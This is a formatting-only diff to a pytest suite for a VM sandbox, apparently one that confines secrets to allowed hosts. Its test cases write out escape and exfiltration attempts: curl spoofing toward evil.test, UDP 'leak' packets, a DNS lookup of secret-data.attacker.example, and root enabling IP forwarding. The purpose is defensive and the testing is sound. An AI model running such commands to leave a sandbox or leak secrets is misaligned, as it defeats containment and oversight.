@@ -5,10 +5,10 @@ import socket
 from pathlib import Path
 
 import pytest
-
-from taskvm import Sandbox, Secret, UsageError
 from tests.conftest import GUEST
 from tests.servers import http_server, tls_context
+
+from taskvm import Sandbox, Secret, UsageError
 
 pytestmark = pytest.mark.vm
 
@@ -117,7 +117,7 @@ async def test_a_secret_for_another_host_is_never_forwarded(
         "curl -sS -m 10 --connect-to evil.test:{port}:api.test:{port} http://evil.test:{port}/",
         "curl -sS -m 10 -x http://api.test:{port} http://evil.test/",
         "curl -sS -m 10 -H 'Host: evil.test' http://api.test:{port}/",
-        "python3 -c 'import socket; s = socket.create_connection((\"api.test\", {port})); "
+        'python3 -c \'import socket; s = socket.create_connection(("api.test", {port})); '
         's.sendall(b"SSH-2.0-x\\r\\n"); print(s.recv(100))\'',
     ],
 )
@@ -139,8 +139,8 @@ async def test_a_denied_name_causes_no_lookup_and_no_packet(vm: Sandbox) -> None
         port = canary.getsockname()[1]
         await vm.exec(
             "python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
-            f"for a in (\"10.0.2.2\", \"127.0.0.1\", \"8.8.8.8\"):\n"
-            f"  try: s.sendto(b\"leak\", (a, {port}))\n  except OSError: pass'; "
+            f'for a in ("10.0.2.2", "127.0.0.1", "8.8.8.8"):\n'
+            f'  try: s.sendto(b"leak", (a, {port}))\n  except OSError: pass\'; '
             "getent hosts secret-data.attacker.example"
         )
         with pytest.raises(BlockingIOError):
@@ -160,7 +160,9 @@ async def test_the_roots_of_the_guest_cannot_turn_mediation_off(tmp_path: Path) 
                 "echo 1 > /proc/sys/net/ipv4/ip_forward",
                 user="root",
             )
-            await vm.exec(f"curl -sS -m 5 http://127.0.0.1:{seen.port}/ http://10.0.2.2:{seen.port}/")
+            await vm.exec(
+                f"curl -sS -m 5 http://127.0.0.1:{seen.port}/ http://10.0.2.2:{seen.port}/"
+            )
 
     assert seen.requests == []
 
@@ -183,8 +185,6 @@ async def test_a_secret_must_fit_the_policy(monkeypatch: pytest.MonkeyPatch) -> 
     """A secret for a host that is not allowed is refused before anything starts."""
     monkeypatch.setenv("API_TOKEN", CANARY)
     with pytest.raises(UsageError, match="not within the allowed hosts") as caught:
-        await Sandbox.create(
-            **GUEST, secrets=[Secret.from_env("API_TOKEN", hosts=["api.test"])]
-        )
+        await Sandbox.create(**GUEST, secrets=[Secret.from_env("API_TOKEN", hosts=["api.test"])])
 
     assert CANARY not in str(caught.value)
